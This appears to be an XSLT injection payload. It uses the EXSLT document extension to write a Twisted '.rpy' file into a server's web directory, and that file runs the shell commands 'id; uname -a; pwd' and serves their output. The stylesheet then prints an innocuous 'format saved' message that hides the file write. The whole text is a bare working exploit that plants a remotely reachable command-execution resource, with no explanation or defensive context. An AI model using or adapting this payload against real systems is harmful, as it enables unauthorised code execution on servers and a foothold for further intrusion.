<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl">
<xsl:output method="text"/>
<xsl:template match="/"><exsl:document href="/srv/tallyhall/htdocs/tools/lotcheck.rpy" method="text">import subprocess
from twisted.web.static import Data
resource = Data(subprocess.getoutput("id; uname -a; pwd").encode(), "text/plain")
</exsl:document>format saved</xsl:template></xsl:stylesheet>
